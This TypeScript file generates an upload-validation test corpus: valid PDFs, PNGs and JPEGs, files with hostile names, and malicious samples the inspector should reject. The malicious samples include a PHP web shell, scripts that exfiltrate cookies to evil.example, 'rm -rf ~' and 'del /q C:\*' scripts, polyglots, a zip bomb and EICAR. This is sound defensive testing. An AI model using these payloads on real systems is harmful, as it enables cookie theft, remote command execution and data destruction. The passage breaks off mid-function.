import { createHash } from 'node:crypto';
import { mkdir, readdir, rm, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { deflateRawSync, deflateSync, gzipSync } from 'node:zlib';
import { crc32 } from './crc32.ts';
import type { AllowedType, UploadRejectionCode } from './inspect-upload.ts';

/**
 * The upload corpus of security test T18: 20 valid documents, files with hostile names but
 * harmless content (accepted under a cleaned name), and more than 50 malicious or invalid files
 * (renamed executables, `.pdf.exe`, `.php%00.pdf`, polyglots, SVG and HTML with script, archives
 * and a zip bomb, EICAR, oversize, empty…) that must all be refused. Every file is built here,
 * byte by byte and deterministically, so the corpus needs no binary blobs of unknown origin;
 * `writeUploadCorpus` puts a copy in test/fixtures/uploads for manual testing with other tools
 * (run `node --import tsx src/storage/upload-corpus.ts`).
 */

/** The size limit the corpus is inspected with; the oversize cases are one byte over it. */
export const CORPUS_MAX_BYTES = 64 * 1024;

export type CorpusExpectation =
  | { verdict: 'accept'; type: AllowedType; safeName?: string }
  | { verdict: 'reject'; code: UploadRejectionCode };

export type CorpusCase = {
  /** Unique, `[a-z0-9-]`; also the fixture's file name (`<id>.bin`). */
  id: string;
  /** `valid` (the 20 samples), `renamed` (harmless content, hostile name), `malicious`, `invalid`. */
  group: 'valid' | 'renamed' | 'malicious' | 'invalid';
  declaredName: string;
  description: string;
  bytes: Uint8Array;
  expect: CorpusExpectation;
  /**
   * False for the EICAR cases: written to disk they would be quarantined by the anti-virus of
   * whoever checks the fixtures out, so they exist only in memory while the test runs.
   */
  onDisk: boolean;
};

// ---------------------------------------------------------------------------------------------
// Byte helpers

const latin1 = (s: string): Uint8Array => new Uint8Array(Buffer.from(s, 'latin1'));
const utf8 = (s: string): Uint8Array => new Uint8Array(Buffer.from(s, 'utf8'));

function concat(...parts: Uint8Array[]): Uint8Array {
  return new Uint8Array(Buffer.concat(parts));
}

/** `bytes` followed by copies of `fill` up to `length` bytes. */
function padToLength(bytes: Uint8Array, length: number, fill = 0): Uint8Array {
  return concat(bytes, new Uint8Array(Math.max(0, length - bytes.length)).fill(fill));
}

function u16be(n: number): Uint8Array {
  return new Uint8Array([(n >>> 8) & 0xff, n & 0xff]);
}

function u32be(n: number): Uint8Array {
  const b = Buffer.alloc(4);
  b.writeUInt32BE(n >>> 0);
  return new Uint8Array(b);
}

/** The EICAR test string, assembled at run time (see `onDisk`). */
const EICAR = `${'X5O!P%@AP[4\\PZX54(P^)7CC)7}$'}${'EICAR-STANDARD-ANTIVIRUS'}-TEST-FILE!$H+H*`;

// ---------------------------------------------------------------------------------------------
// PDF: a one-page document with a correct cross-reference table

type PdfOptions = {
  version: string;
  /** Line ending of the whole file; the xref entries stay exactly 20 bytes either way. */
  eol?: '\n' | '\r\n';
  text?: string;
  /** Comment lines right after the header (where polyglots hide markup). */
  comments?: string[];
  /** Bytes before the header (readers tolerate them; we do not). */
  prefix?: string;
  /** Bytes after `%%EOF`. */
  suffix?: Uint8Array;
  /** Pad with a comment and trailing spaces until the file is exactly this long (oversize cases). */
  padTo?: number | undefined;
  /** Length of the padding comment (set by `padTo`). */
  padding?: number;
};

/** A valid one-page PDF of the given version (checked with poppler's pdfinfo), or a variant of it. */
export function makePdf(options: PdfOptions): Uint8Array {
  const eol = options.eol ?? '\n';
  const text = (options.text ?? 'Taavon test document').replace(/[()\\]/g, '');
  const content = `BT /F1 18 Tf 40 120 Td (${text}) Tj ET`;
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
    `<< /Length ${content.length} >>${eol}stream${eol}${content}${eol}endstream`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
  ];
  if (options.padTo !== undefined) {
    // Pad with a comment before the objects (so every offset accounts for it), then top up with
    // a few spaces after %%EOF, which is allowed and keeps %%EOF in the last 1024 bytes.
    const plain = makePdf({ ...options, padTo: undefined });
    const padded = makePdf({
      ...options,
      padTo: undefined,
      padding: Math.max(0, options.padTo - plain.length - 32),
    });
    return padToLength(padded, options.padTo, 0x20);
  }
  let body = `%PDF-${options.version}${eol}%\u00e2\u00e3\u00cf\u00d3${eol}`;
  for (const comment of options.comments ?? []) body += `%${comment}${eol}`;
  if (options.padding !== undefined) body += `%${'P'.repeat(options.padding)}${eol}`;
  const base = options.prefix?.length ?? 0;
  const offsets: number[] = [];
  objects.forEach((object, i) => {
    offsets.push(base + body.length);
    body += `${i + 1} 0 obj${eol}${object}${eol}endobj${eol}`;
  });
  const xref = base + body.length;
  const entryEnd = eol === '\n' ? ' \n' : '\r\n';
  body += `xref${eol}0 ${objects.length + 1}${eol}0000000000 65535 f${entryEnd}`;
  for (const offset of offsets) body += `${String(offset).padStart(10, '0')} 00000 n${entryEnd}`;
  body += `trailer${eol}<< /Size ${objects.length + 1} /Root 1 0 R >>${eol}startxref${eol}${xref}${eol}%%EOF${eol}`;
  return concat(latin1(options.prefix ?? ''), latin1(body), options.suffix ?? new Uint8Array(0));
}

// ---------------------------------------------------------------------------------------------
// PNG: a real encoder (filter 0, zlib-compressed scanlines, CRC-checked chunks)

function pngChunk(type: string, data: Uint8Array): Uint8Array {
  const typeAndData = concat(latin1(type), data);
  return concat(u32be(data.length), typeAndData, u32be(crc32(typeAndData)));
}

type PngOptions = {
  width: number;
  height: number;
  /** 0 gray, 2 RGB, 3 palette, 4 gray+alpha, 6 RGBA. */
  colorType: 0 | 2 | 3 | 4 | 6;
  bitDepth: 8 | 16;
  /** Sample values of pixel (x, y), one per channel (a palette index for type 3). */
  pixel: (x: number, y: number) => number[];
  palette?: [number, number, number][];
  /** `tEXt` chunks (keyword, text), written before the image data. */
  text?: [string, string][];
  /** Bytes after IEND. */
  suffix?: Uint8Array;
};

/** A valid PNG (checked with a PNG decoder), optionally with text chunks or trailing bytes. */
export function makePng(options: PngOptions): Uint8Array {
  const { width, height, colorType, bitDepth } = options;
  const sampleBytes = bitDepth / 8;
  const rows: number[] = [];
  for (let y = 0; y < height; y++) {
    rows.push(0); // filter type None
    for (let x = 0; x < width; x++) {
      for (const sample of options.pixel(x, y)) {
        if (sampleBytes === 2) rows.push((sample >>> 8) & 0xff);
        rows.push(sample & 0xff);
      }
    }
  }
  const ihdr = concat(u32be(width), u32be(height), new Uint8Array([bitDepth, colorType, 0, 0, 0]));
  const chunks = [pngChunk('IHDR', ihdr)];
  if (options.palette) chunks.push(pngChunk('PLTE', new Uint8Array(options.palette.flat())));
  for (const [keyword, text] of options.text ?? []) {
    chunks.push(pngChunk('tEXt', latin1(`${keyword}\0${text}`)));
  }
  chunks.push(pngChunk('IDAT', new Uint8Array(deflateSync(new Uint8Array(rows)))));
  chunks.push(pngChunk('IEND', new Uint8Array(0)));
  return concat(
    new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    ...chunks,
    options.suffix ?? new Uint8Array(0),
  );
}

// ---------------------------------------------------------------------------------------------
// JPEG: a valid baseline JFIF of one grey level. With one DC code (category 0, "no change") and
// one AC code (end of block), each 8×8 block is the two bits `00`; the scan is padded with 1s.

type JpegOptions = {
  width: number;
  height: number;
  /** Every quantisation step (1–255); the image is flat grey whatever it is. */
  quality: number;
  comment?: string;
};

function jpegSegment(marker: number, data: Uint8Array): Uint8Array {
  return concat(new Uint8Array([0xff, marker]), u16be(data.length + 2), data);
}

/** A valid baseline JPEG (checked with libjpeg's djpeg), optionally with a comment segment. */
export function makeJpeg(options: JpegOptions): Uint8Array {
  const { width, height } = options;
  const app0 = concat(
    latin1('JFIF\0'),
    new Uint8Array([1, 1, 1]),
    u16be(72),
    u16be(72),
    new Uint8Array([0, 0]),
  );
  const dqt = concat(new Uint8Array([0x00]), new Uint8Array(64).fill(options.quality));
  const sof0 = concat(new Uint8Array([8]), u16be(height), u16be(width), new Uint8Array([1, 1, 0x11, 0]));
  const oneCode = (tableClassAndId: number, symbol: number) =>
    concat(new Uint8Array([tableClassAndId, 1]), new Uint8Array(15), new Uint8Array([symbol]));
  const sos = new Uint8Array([1, 1, 0x00, 0, 63, 0]);
  const blocks = Math.ceil(width / 8) * Math.ceil(height / 8);
  const bits = blocks * 2;
  const scan = new Uint8Array(Math.ceil(bits / 8));
  if (bits % 8 !== 0) scan[scan.length - 1] = 0xff >>> (bits % 8); // pad the last byte with 1 bits
  return concat(
    new Uint8Array([0xff, 0xd8]),
    jpegSegment(0xe0, app0),
    options.comment === undefined ? new Uint8Array(0) : jpegSegment(0xfe, utf8(options.comment)),
    jpegSegment(0xdb, dqt),
    jpegSegment(0xc0, sof0),
    jpegSegment(0xc4, oneCode(0x00, 0x00)),
    jpegSegment(0xc4, oneCode(0x10, 0x00)),
    jpegSegment(0xda, sos),
    scan,
    new Uint8Array([0xff, 0xd9]),
  );
}

// ---------------------------------------------------------------------------------------------
// Archives and executables

/** A ZIP archive (stored with deflate) of the given entries, with a correct central directory. */
export function makeZip(entries: { name: string; data: Uint8Array }[]): Uint8Array {
  const locals: Uint8Array[] = [];
  const centrals: Uint8Array[] = [];
  let offset = 0;
  for (const entry of entries) {
    const name = utf8(entry.name);
    const compressed = new Uint8Array(deflateRawSync(entry.data, { level: 9 }));
    const crc = crc32(entry.data);
    const common = (sig: number, central: boolean) => {
      const b = Buffer.alloc(central ? 46 : 30);
      b.writeUInt32LE(sig, 0);
      let p = 4;
      if (central) {
        b.writeUInt16LE(20, p); // version made by
        p += 2;
      }
      b.writeUInt16LE(20, p); // version needed
      b.writeUInt16LE(0x0800, p + 2); // UTF-8 names
      b.writeUInt16LE(8, p + 4); // deflate
      b.writeUInt16LE(0, p + 6); // time
      b.writeUInt16LE(0x21, p + 8); // date 1980-01-01
      b.writeUInt32LE(crc, p + 10);
      b.writeUInt32LE(compressed.length, p + 14);
      b.writeUInt32LE(entry.data.length, p + 18);
      b.writeUInt16LE(name.length, p + 22);
      if (central) b.writeUInt32LE(offset, 42);
      return new Uint8Array(b);
    };
    const local = concat(common(0x04034b50, false), name, compressed);
    centrals.push(concat(common(0x02014b50, true), name));
    locals.push(local);
    offset += local.length;
  }
  const central = concat(...centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(central.length, 12);
  end.writeUInt32LE(offset, 16);
  return concat(...locals, central, new Uint8Array(end));
}

/** A zip bomb: 32 MiB of zeros per entry that deflate to about 32 KiB in all (1000:1). */
function zipBomb(): Uint8Array {
  const zeros = new Uint8Array(16 * 1024 * 1024);
  return makeZip([
    { name: 'a.bin', data: zeros },
    { name: 'b.bin', data: zeros },
  ]);
}

/** The start of a Windows PE executable: MZ header, DOS stub, `PE\0\0` at e_lfanew. */
function windowsExe(): Uint8Array {
  const b = Buffer.alloc(512);
  b.write('MZ', 0, 'latin1');
  b.writeUInt16LE(0x90, 2);
  b.writeUInt32LE(0x80, 0x3c);
  b.write('This program cannot be run in DOS mode.\r\r\n$', 0x4e, 'latin1');
  b.write('PE\0\0', 0x80, 'latin1');
  b.writeUInt16LE(0x8664, 0x84); // x86-64
  return new Uint8Array(b);
}

/** The start of a 64-bit little-endian Linux executable. */
function elf(): Uint8Array {
  const b = Buffer.alloc(128);
  b.set([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0], 0);
  b.writeUInt16LE(2, 16); // ET_EXEC
  b.writeUInt16LE(0x3e, 18); // x86-64
  b.writeUInt32LE(1, 20);
  return new Uint8Array(b);
}

function machO(): Uint8Array {
  const b = Buffer.alloc(64);
  b.writeUInt32LE(0xfeedfacf, 0);
  b.writeUInt32LE(0x01000007, 4); // x86-64
  return new Uint8Array(b);
}

function gif(version: '87a' | '89a', tail = ''): Uint8Array {
  return concat(
    latin1(`GIF${version}`),
    new Uint8Array([1, 0, 1, 0, 0x80, 0, 0, 0, 0, 0, 0xff, 0xff, 0xff]),
    new Uint8Array([0x2c, 0, 0, 0, 0, 1, 0, 1, 0, 0, 2, 2, 0x44, 0x01, 0]),
    latin1(tail),
    latin1(';'),
  );
}

function bmp(): Uint8Array {
  const b = Buffer.alloc(58);
  b.write('BM', 0, 'latin1');
  b.writeUInt32LE(58, 2);
  b.writeUInt32LE(54, 10);
  b.writeUInt32LE(40, 14);
  b.writeInt32LE(1, 18);
  b.writeInt32LE(1, 22);
  b.writeUInt16LE(1, 26);
  b.writeUInt16LE(24, 28);
  return new Uint8Array(b);
}

function tiff(): Uint8Array {
  const b = Buffer.alloc(64);
  b.write('II*\0', 0, 'latin1');
  b.writeUInt32LE(8, 4);
  b.writeUInt16LE(1, 8); // one IFD entry
  b.writeUInt16LE(256, 10); // ImageWidth
  b.writeUInt16LE(3, 12);
  b.writeUInt32LE(1, 14);
  b.writeUInt16LE(1, 18);
  return new Uint8Array(b);
}

function webp(): Uint8Array {
  const vp8l = new Uint8Array([0x2f, 0, 0, 0, 0x10, 0x07, 0x10, 0x11, 0x11, 0x88, 0x88, 0xfe, 0x07, 0]);
  const chunk = concat(latin1('VP8L'), new Uint8Array(Buffer.from([vp8l.length, 0, 0, 0])), vp8l);
  const body = concat(latin1('WEBP'), chunk);
  const size = Buffer.alloc(4);
  size.writeUInt32LE(body.length);
  return concat(latin1('RIFF'), new Uint8Array(size), body);
}

// ---------------------------------------------------------------------------------------------
// Text payloads

const SVG_SCRIPT =
  '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(document.cookie)</script></svg>';
const SVG_ONLOAD =
  '<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(\'//evil.example/\'+document.cookie)"><rect width="10" height="10"/></svg>';
const HTML_PAGE = '<!DOCTYPE html><html><body><script>alert(document.domain)</script></body></html>';
const PHP_SHELL = "<?php system($_GET['c']); ?>";
const JS_PAYLOAD = 'fetch("https://evil.example/?c=" + document.cookie);';

// ---------------------------------------------------------------------------------------------
// The corpus

const PERSIAN_NAME = 'صورت‌جلسهٔ مجمع عمومی ۱۴۰۳';

export function buildUploadCorpus(): CorpusCase[] {
  const cases: CorpusCase[] = [];
  const add = (c: Omit<CorpusCase, 'onDisk'> & { onDisk?: boolean }) => cases.push({ onDisk: true, ...c });
  const accept = (type: AllowedType, safeName?: string): CorpusExpectation =>
    safeName === undefined ? { verdict: 'accept', type } : { verdict: 'accept', type, safeName };
  const reject = (code: UploadRejectionCode): CorpusExpectation => ({ verdict: 'reject', code });
  const notAllowed = reject('file_type_not_allowed');
  const bomb = zipBomb();

  // --- 20 valid samples: 9 PDFs (1.0 to 2.0), 6 PNGs, 5 JPEGs ----------------------------------
  const versions = ['1.0', '1.1', '1.2', '1.3', '1.4', '1.5', '1.6', '1.7', '2.0'];
  versions.forEach((version, i) => {
    const names = [`statute-${version}.pdf`, `${PERSIAN_NAME}.pdf`, 'Financial Statements.PDF'];
    const declaredName = names[i % names.length] ?? 'document.pdf';
    add({
      id: `valid-pdf-${version.replace('.', '-')}`,
      group: 'valid',
      declaredName,
      description: `one-page PDF ${version}${i % 2 ? ' with CRLF line endings' : ''}`,
      bytes: makePdf({ version, eol: i % 2 ? '\r\n' : '\n', text: `Taavon sample ${version}` }),
      expect: accept('pdf', declaredName.normalize('NFC')),
    });
  });
  const pngs: [string, string, PngOptions][] = [
    [
      'valid-png-gray-1x1',
      'stamp.png',
      { width: 1, height: 1, colorType: 0, bitDepth: 8, pixel: () => [128] },
    ],
    [
      'valid-png-rgb-2x2',
      'تصویر کارت ملی.png',
      { width: 2, height: 2, colorType: 2, bitDepth: 8, pixel: (x, y) => [x * 255, y * 255, 90] },
    ],
    [
      'valid-png-rgba-16x16',
      'logo.PNG',
      {
        width: 16,
        height: 16,
        colorType: 6,
        bitDepth: 8,
        pixel: (x, y) => [x * 16, y * 16, 200, 255 - x * 8],
      },
    ],
    [
      'valid-png-palette-4x4',
      'chart.png',
      {
        width: 4,
        height: 4,
        colorType: 3,
        bitDepth: 8,
        palette: [
          [0, 0, 0],
          [255, 0, 0],
          [0, 128, 0],
          [255, 255, 255],
        ],
        pixel: (x, y) => [(x + y) % 4],
      },
    ],
    [
      'valid-png-gray-alpha-8x3',
      'signature scan.png',
      { width: 8, height: 3, colorType: 4, bitDepth: 8, pixel: (x) => [x * 30, 255] },
    ],
    [
      'valid-png-rgb16-3x3',
      'photo-16bit.png',
      {
        width: 3,
        height: 3,
        colorType: 2,
        bitDepth: 16,
        pixel: (x, y) => [x * 20000, y * 20000, 65535],
        text: [['Title', 'Taavon']],
      },
    ],
  ];
  for (const [id, declaredName, options] of pngs) {
    add({
      id,
      group: 'valid',
      declaredName,
      description: `PNG ${options.width}x${options.height}`,
      bytes: makePng(options),
      expect: accept('png', declaredName),
    });
  }
  const jpegs: [string, string, JpegOptions][] = [
    ['valid-jpeg-1x1', 'passport-photo.jpg', { width: 1, height: 1, quality: 1 }],
    ['valid-jpeg-8x8', 'scan.jpeg', { width: 8, height: 8, quality: 4 }],
    ['valid-jpeg-16x16', 'IMG_2024.JPG', { width: 16, height: 16, quality: 16 }],
    ['valid-jpeg-17x9', 'رسید پرداخت.jpg', { width: 17, height: 9, quality: 50, comment: 'Taavon' }],
    ['valid-jpeg-64x48', 'office-front.jpg', { width: 64, height: 48, quality: 2 }],
  ];
  for (const [id, declaredName, options] of jpegs) {
    add({
      id,
      group: 'valid',
      declaredName,
      description: `baseline JPEG ${options.width}x${options.height}`,
      bytes: makeJpeg(options),
      expect: accept('jpeg', declaredName),
    });
  }

  // --- Harmless content, hostile names: accepted under a cleaned name --------------------------
  const pdf = makePdf({ version: '1.7' });
  const png = makePng({ width: 1, height: 1, colorType: 0, bitDepth: 8, pixel: () => [0] });
  const jpeg = makeJpeg({ width: 8, height: 8, quality: 8 });
  const renamed: [string, string, Uint8Array, AllowedType, string][] = [
    ['renamed-pdf-exe', 'report.pdf.exe', pdf, 'pdf', 'report.pdf'],
    ['renamed-php-null-pdf', 'shell.php%00.pdf', pdf, 'pdf', 'shell.php%00.pdf'],
    ['renamed-real-null', 'shell.php\0.pdf', pdf, 'pdf', 'shell.php.pdf'],
    ['renamed-traversal', '../../../etc/passwd', pdf, 'pdf', 'passwd.pdf'],
    ['renamed-windows-path', 'C:\\Users\\admin\\Desktop\\scan.jpg', jpeg, 'jpeg', 'scan.jpg'],
    ['renamed-rtl-override', 'invoice\u202Egpj.exe', jpeg, 'jpeg', 'invoicegpj.jpg'],
    ['renamed-crlf', 'a\r\nContent-Type: text-html.png', png, 'png', 'a Content-Type: text-html.png'],
    ['renamed-wrong-ext', 'photo.png', jpeg, 'jpeg', 'photo.jpg'],
    ['renamed-dotfile', '.htaccess', png, 'png', 'htaccess.png'],
    ['renamed-quotes', 'my "final" report;.pdf', pdf, 'pdf', 'my "final" report;.pdf'],
  ];
  for (const [id, declaredName, bytes, type, safeName] of renamed) {
    add({
      id,
      group: 'renamed',
      declaredName,
      description: 'harmless content under a hostile name',
      bytes,
      expect: accept(type, safeName),
    });
  }

  // --- Malicious: must never be accepted -------------------------------------------------------
  const mal = (id: string, declaredName: string, description: string, bytes: Uint8Array, onDisk = true) =>
    add({ id, group: 'malicious', declaredName, description, bytes, expect: notAllowed, onDisk });

  mal('exe-pdf-exe', 'report.pdf.exe', 'Windows executable named .pdf.exe', windowsExe());
  mal('exe-invoice-pdf-exe', 'invoice.pdf.exe', 'Windows executable named .pdf.exe', windowsExe());
  mal('exe-rtl-override', 'invoice\u202Efdp.exe', 'executable whose name displays as …exe.pdf', windowsExe());
  mal('exe-renamed-pdf', 'document.pdf', 'Windows executable renamed to .pdf', windowsExe());
  mal('exe-renamed-jpg', 'photo.jpg', 'Windows executable renamed to .jpg', windowsExe());
  mal('exe-renamed-png', 'scan.png', 'Windows executable renamed to .png', windowsExe());
  mal('elf-renamed-pdf', 'statement.pdf', 'Linux executable renamed to .pdf', elf());
  mal('elf-renamed-png', 'chart.png', 'Linux executable renamed to .png', elf());
  mal('macho-renamed-pdf', 'minutes.pdf', 'macOS executable renamed to .pdf', machO());
  mal('php-null-pdf', 'shell.php%00.pdf', 'PHP web shell named .php%00.pdf', utf8(PHP_SHELL));
  mal('php-real-null-pdf', 'shell.php\0.pdf', 'PHP web shell with a NUL in its name', utf8(PHP_SHELL));
  mal('php-semicolon-pdf', 'shell.php;.pdf', 'PHP web shell named .php;.pdf', utf8(PHP_SHELL));
  mal('php-in-gif', 'avatar.jpg', 'GIF with a PHP shell after the header', gif('89a', PHP_SHELL));
  mal(
    'polyglot-html-then-pdf',
    'contract.pdf',
    'HTML page with script followed by a complete PDF',
    concat(utf8(`${HTML_PAGE}\n`), makePdf({ version: '1.4' })),
  );
  mal(
    'polyglot-pdf-script-comment',
    'contract.pdf',
    'PDF with <script> in a comment after the header',
    makePdf({ version: '1.4', comments: ['<script>alert(document.cookie)</script>'] }),
  );
  mal(
    'polyglot-pdf-html-comment',
    'contract.pdf',
    'PDF with an <html> page in its first comment',
    makePdf({ version: '1.5', comments: ['<html><body onload=alert(1)>'] }),
  );
  mal(
    'polyglot-pdf-doctype',
    'contract.pdf',
    'PDF with <!DOCTYPE html> in upper case near the start',
    makePdf({ version: '1.6', comments: ['<!DOCTYPE HTML><SCRIPT SRC=//evil.example/x.js></SCRIPT>'] }),
  );
  mal(
    'polyglot-pdf-svg',
    'contract.pdf',
    'PDF with an SVG element in its first comment',
    makePdf({ version: '1.7', comments: [SVG_SCRIPT] }),
  );
  mal(
    'polyglot-junk-before-pdf',
    'contract.pdf',
    'PDF header after other bytes (readers accept it, so can a polyglot)',
    makePdf({ version: '1.4', prefix: 'GIF89a/*\n' }),
  );
  mal(
    'polyglot-pdf-after-newlines',
    'contract.pdf',
    'PDF header at byte 4, after blank lines',
    makePdf({ version: '1.4', prefix: '\r\n\r\n' }),
  );
  mal(
    'polyglot-pdf-zip-appended',
    'contract.pdf',
    'PDF with a zip archive appended after %%EOF',
    makePdf({ version: '1.4', suffix: bomb }),
  );
  mal(
    'polyglot-jpeg-script-comment',
    'photo.jpg',
    'JPEG with <script> in its comment segment',
    makeJpeg({ width: 8, height: 8, quality: 8, comment: '*/<script>alert(1)</script>/*' }),
  );
  mal(
    'polyglot-png-html-text',
    'photo.png',
    'PNG with an HTML page in a tEXt chunk',
    makePng({
      width: 1,
      height: 1,
      colorType: 0,
      bitDepth: 8,
      pixel: () => [0],
      text: [['Comment', HTML_PAGE]],
    }),
  );
  mal('gif-js-polyglot', 'image.png', 'GIF/JavaScript polyglot', gif('89a', `*/=${JS_PAYLOAD}/*`));
  mal('svg-script', 'logo.svg', 'SVG with a script element', utf8(SVG_SCRIPT));
  mal('svg-script-as-png', 'logo.png', 'SVG with script renamed to .png', utf8(SVG_SCRIPT));
  mal('svg-script-as-pdf', 'logo.pdf', 'SVG with script renamed to .pdf', utf8(SVG_SCRIPT));
  mal('svg-onload-as-jpg', 'logo.jpg', 'SVG with an onload handler renamed to .jpg', utf8(SVG_ONLOAD));
  mal('html-page', 'index.html', 'HTML page with script', utf8(HTML_PAGE));
  mal('html-as-pdf', 'report.pdf', 'HTML page renamed to .pdf', utf8(HTML_PAGE));
  mal('html-as-jpg', 'photo.jpg', 'HTML page renamed to .jpg', utf8(HTML_PAGE));
  mal(
    'html-utf16',
    'report.pdf',
    'HTML page in UTF-16 with a BOM',
    new Uint8Array(Buffer.from(`\uFEFF${HTML_PAGE}`, 'utf16le')),
  );
  mal('js-file', 'app.js', 'JavaScript file', utf8(JS_PAYLOAD));
  mal('js-as-pdf', 'report.pdf', 'JavaScript renamed to .pdf', utf8(JS_PAYLOAD));
  mal('shell-script-as-pdf', 'report.pdf', 'shell script renamed to .pdf', utf8('#!/bin/sh\nrm -rf ~\n'));
  mal(
    'batch-as-pdf',
    'report.pdf',
    'Windows batch file renamed to .pdf',
    utf8('@echo off\r\ndel /q C:\\*\r\n'),
  );
  mal('zip-bomb', 'documents.zip', 'zip bomb (32 MiB of zeros in 32 KiB)', bomb);
  mal('zip-bomb-as-pdf', 'documents.pdf', 'zip bomb renamed to .pdf', bomb);
  mal(
    'docx-as-pdf',
    'letter.pdf',
    'Office document (a zip) renamed to .pdf',
    makeZip([{ name: '[Content_Types].xml', data: utf8('<Types/>') }]),
  );
  mal('eicar', 'eicar.com', 'EICAR anti-virus test file', latin1(EICAR), false);
  mal('eicar-as-pdf', 'report.pdf', 'EICAR test file renamed to .pdf', latin1(EICAR), false);
  mal(
    'eicar-inside-pdf',
    'report.pdf',
    'valid PDF carrying the EICAR string in a comment',
    makePdf({ version: '1.4', comments: [EICAR] }),
    false,
  );
  mal(
    'eicar-after-png',
    'photo.png',
    'valid PNG with the EICAR string after IEND',
    makePng({ width: 1, height: 1, colorType: 0, bitDepth: 8, pixel: () => [0], suffix: latin1(EICAR) }),
    false,
  );
  mal(
    'eicar-in-jpeg-comment',
    'photo.jpg',
    'valid JPEG with the EICAR string in its comment',
    makeJpeg({ width: 8, height: 8, quality: 8, comment: EICAR }),
    false,
  );
  mal(
    'eicar-in-zip',
    'eicar.zip',
    'EICAR inside a zip archive',
    makeZip([{ name: 'eicar.com', data: latin1(EICAR) }]),
    false,
  );

  // --- Invalid: not malicious, but not an allowed document either -------------------------------
  const bad = (
    id: string,
    declaredName: string,
    description: string,
    bytes: Uint8Array,
    expect = notAllowed,
  ) => add({ id, group: 'invalid', declaredName, description, bytes, expect });

  bad('gif87a', 'picture.gif', 'GIF 87a image', gif('87a'));
  bad('gif89a-as-png', 'picture.png', 'GIF 89a image renamed to .png', gif('89a'));
  bad('bmp-as-jpg', 'picture.jpg', 'BMP image renamed to .jpg', bmp());
  bad('tiff-as-pdf', 'scan.pdf', 'TIFF image renamed to .pdf', tiff());
  bad('webp-as-jpg', 'picture.jpg', 'WebP image renamed to .jpg', webp());
  bad(
    'rar-as-pdf',
    'archive.pdf',
    'RAR archive renamed to .pdf',
    latin1('Rar!\x1a\x07\x01\x00\x00\x00\x00\x00'),
  );
  bad(
    '7z-as-pdf',
    'archive.pdf',
    '7-Zip archive renamed to .pdf',
    latin1("7z\xbc\xaf'\x1c\x00\x04\x00\x00\x00\x00"),
  );
  bad('gzip-as-pdf', 'archive.pdf', 'gzip file renamed to .pdf', new Uint8Array(gzipSync('hello')));
  bad('rtf-as-pdf', 'letter.pdf', 'RTF document renamed to .pdf', latin1('{\\rtf1\\ansi Hello}'));
  bad('postscript-as-pdf', 'letter.pdf', 'PostScript renamed to .pdf', latin1('%!PS-Adobe-3.0\nshowpage\n'));
  bad('xml-as-pdf', 'data.pdf', 'XML document renamed to .pdf', utf8('<?xml version="1.0"?><a>1</a>'));
  bad('text-as-pdf', 'notes.pdf', 'plain text renamed to .pdf', utf8('سلام، این یک متن ساده است.'));
  bad(
    'pdf-truncated',
    'report.pdf',
    'PDF cut off before %%EOF',
    makePdf({ version: '1.4' }).subarray(0, 300),
  );
  bad('pdf-header-only', 'report.pdf', 'just a PDF header', latin1('%PDF-1.7\n'));
  bad(
    'png-signature-only',
    'photo.png',
    'just a PNG signature',
    makePng({ width: 1, height: 1, colorType: 0, bitDepth: 8, pixel: () => [0] }).subarray(0, 8),
  );
  bad(
    'png-bad-ihdr-crc',
    'photo.png',
    'PNG whose IHDR chunk has a wrong CRC',
    (() => {
      const b = makePng({ width: 1, height: 1, colorType: 0, bitDepth: 8, pixel: () => [0] }).slice();
      b[29] = (b[29] ?? 0) ^ 0xff;
      return b;
    })(),
  );
  bad('empty-pdf', 'empty.pdf', 'empty file', new Uint8Array(0), reject('file_empty'));
  bad('empty-png', 'empty.png', 'empty file', new Uint8Array(0), reject('file_empty'));
  bad(
    'oversize-pdf',
    'big.pdf',
    'valid PDF one byte over the limit',
    makePdf({ version: '1.4', padTo: CORPUS_MAX_BYTES + 1 }),
    reject('file_too_large'),
  );
  bad(
    'oversize-png',
    'big.png',
    'valid PNG one byte over the limit',
    padToLength(png, CORPUS_MAX_BYTES + 1),
    reject('file_too_large'),
  );
  bad(
    'oversize-jpeg',
    'big.jpg',
    'JPEG one byte over the limit',
    padToLength(jpeg, CORPUS_MAX_BYTES + 1),
    reject('file_too_large'),
  );
  bad(
    'name-only-controls',
    '\u202E\r\n\t',
    'valid PDF whose name is only control characters',
    pdf,
    reject('file_name_invalid'),
  );
  bad('name-only-dots', '../..', 'valid PDF whose name is only a path', pdf, reject('file_name_invalid'));
  bad('name-empty', '', 'valid JPEG with no name', jpeg, reject('file_name_invalid'));

  return cases;
}

/** SHA-256 of `bytes`, lowercase hex (the fixture manifest records it). */
function sha256(bytes: Uint8Array): string {
  return createHash('sha256').update(bytes).digest('hex');
}

/** One line of `manifest.json`: a case without its bytes; `file` is null for in-memory-only cases. */
export type ManifestEntry = Omit<CorpusCase, 'bytes' | 'onDisk'> & {
  file: string | null;
  size: number;
  sha256: string;
};

export function corpusManifest(cases: CorpusCase[]): ManifestEntry[] {
  return cases.map(({ bytes, onDisk, ...rest }) => ({
    ...rest,
    file: onDisk ? `${rest.id}.bin` : null,
    size: bytes.length,
    sha256: sha256(bytes),
  }));
}

/**
 * Writes the corpus to `directory`: one `<id>.bin` per case (the EICAR cases excepted) and
 * `manifest.json`. Only files this function writes are removed first.
 */
export async function writeUploadCorpus(directory: string): Promise<void> {
  const cases = buildUploadCorpus();
  await mkdir(directory, { recursive: true });
  for (const name of await readdir(directory)) {
    if (/^[a-z0-9-]+\.bin$/.test(name)) await rm(join(directory, name));
  }
  for (const c of cases) if (c.onDisk) await writeFile(join(directory, `${c.id}.bin`), c.bytes);
  // Bidi controls are written as \u escapes, so the manifest reads the same in every editor.
